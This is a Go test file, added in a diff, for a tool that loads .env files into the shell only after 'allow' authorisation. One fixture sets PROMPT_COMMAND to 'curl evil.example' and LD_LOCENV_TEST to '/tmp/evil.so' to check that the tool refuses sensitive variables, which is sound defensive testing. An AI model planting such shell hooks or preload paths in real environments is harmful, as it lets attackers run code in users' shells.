@@ -0,0 +1,125 @@
+package main
+
+import (
+	"bytes"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+/*
+setupProject cria um projeto com um arquivo .env.trust, muda o diretório de trabalho para ele e usa um registro de
+autorizações temporário
+
+@params t *testing.T - Um ponteiro para o objeto de teste
+@param content string - O conteúdo do arquivo .env.trust
+
+@return string - O caminho do arquivo .env.trust
+*/
+func setupProject(t *testing.T, content string) string {
+	t.Helper()
+
+	file := filepath.Join(chdirTemp(t), ".env.trust")
+	if err := os.WriteFile(file, []byte(content), 0644); err != nil {
+		t.Fatalf("Não foi possível criar o arquivo .env: %v", err)
+	}
+	t.Setenv("APP_ENV", "trust")
+	t.Setenv(trustFileEnvVar, filepath.Join(t.TempDir(), "allowed.json"))
+	t.Setenv(loadedEnvVar, "")
+
+	return file
+}
+
+/*
+export executa o subcomando export para bash, removendo do processo as variáveis carregadas por ele
+
+@params t *testing.T - Um ponteiro para o objeto de teste
+@param keys ...string - As variáveis do arquivo .env, removidas ao fim do teste
+
+@return string - A saída padrão
+@return string - A saída de erros
+*/
+func export(t *testing.T, keys ...string) (string, string) {
+	t.Helper()
+
+	var stdout, stderr bytes.Buffer
+	if code := runExport([]string{"-shell", "bash", "-sort"}, &stdout, &stderr); code != 0 {
+		t.Fatalf("export retornou %d: %s", code, stderr.String())
+	}
+	for _, key := range keys {
+		os.Unsetenv(key)
+	}
+
+	return stdout.String(), stderr.String()
+}
+
+/*
+TestExportRequiresAllow verifica se export ignora os arquivos não autorizados ou alterados depois de allow.
+
+@params t *testing.T - Um ponteiro para o objeto de teste
+*/
+func TestExportRequiresAllow(t *testing.T) {
+	file := setupProject(t, "ALW_NAME=app\n")
+
+	stdout, stderr := export(t, "ALW_NAME")
+	if stdout != "" || !strings.Contains(stderr, "locenv allow") {
+		t.Errorf("Esperava nenhuma variável antes de allow, obteve %q (%q)", stdout, stderr)
+	}
+
+	var out, errs bytes.Buffer
+	if code := runAllow(nil, &out, &errs); code != 0 {
+		t.Fatalf("allow retornou %d: %s", code, errs.String())
+	}
+	if stdout, _ := export(t, "ALW_NAME"); !strings.Contains(stdout, "export ALW_NAME='app';") {
+		t.Errorf("Esperava ALW_NAME depois de allow, obteve %q", stdout)
+	}
+
+	if err := os.WriteFile(file, []byte("ALW_NAME=outro\n"), 0644); err != nil {
+		t.Fatalf("Não foi possível alterar o arquivo .env: %v", err)
+	}
+	if stdout, stderr := export(t, "ALW_NAME"); stdout != "" || !strings.Contains(stderr, "alterado") {
+		t.Errorf("Esperava nenhuma variável com o arquivo alterado, obteve %q (%q)", stdout, stderr)
+	}
+
+	if code := runAllow(nil, &out, &errs); code != 0 {
+		t.Fatalf("allow retornou %d: %s", code, errs.String())
+	}
+	if code := runDeny(nil, &out, &errs); code != 0 {
+		t.Fatalf("deny retornou %d: %s", code, errs.String())
+	}
+	if stdout, _ := export(t, "ALW_NAME"); stdout != "" {
+		t.Errorf("Esperava nenhuma variável depois de deny, obteve %q", stdout)
+	}
+}
+
+/*
+TestExportRefusesSensitiveKeys verifica se variáveis como PROMPT_COMMAND e LD_* só são exportadas quando
+autorizadas com allow -keys.
+
+@params t *testing.T - Um ponteiro para o objeto de teste
+*/
+func TestExportRefusesSensitiveKeys(t *testing.T) {
+	setupProject(t, "PROMPT_COMMAND=curl evil.example\nLD_LOCENV_TEST=/tmp/evil.so\nALW_NAME=app\n")
+	keys := []string{"PROMPT_COMMAND", "LD_LOCENV_TEST", "ALW_NAME"}
+
+	var out, errs bytes.Buffer
+	if code := runAllow(nil, &out, &errs); code != 0 {
+		t.Fatalf("allow retornou %d: %s", code, errs.String())
+	}
+	stdout, stderr := export(t, keys...)
+	if stdout != "export ALW_NAME='app';\nexport LOCENV_LOADED='ALW_NAME';\n" {
+		t.Errorf("Esperava apenas ALW_NAME, obteve %q", stdout)
+	}
+	if !strings.Contains(stderr, "PROMPT_COMMAND ignorada") || !strings.Contains(stderr, "LD_LOCENV_TEST ignorada") {
+		t.Errorf("Esperava avisos para as variáveis sensíveis, obteve %q", stderr)
+	}
+
+	if code := runAllow([]string{"-keys", "PROMPT_COMMAND"}, &out, &errs); code != 0 {
+		t.Fatalf("allow retornou %d: %s", code, errs.String())
+	}
+	stdout, _ = export(t, keys...)
+	if !strings.Contains(stdout, "export PROMPT_COMMAND='curl evil.example';") || strings.Contains(stdout, "LD_LOCENV_TEST") {
+		t.Errorf("Esperava PROMPT_COMMAND autorizada e LD_LOCENV_TEST recusada, obteve %q", stdout)
+	}
+}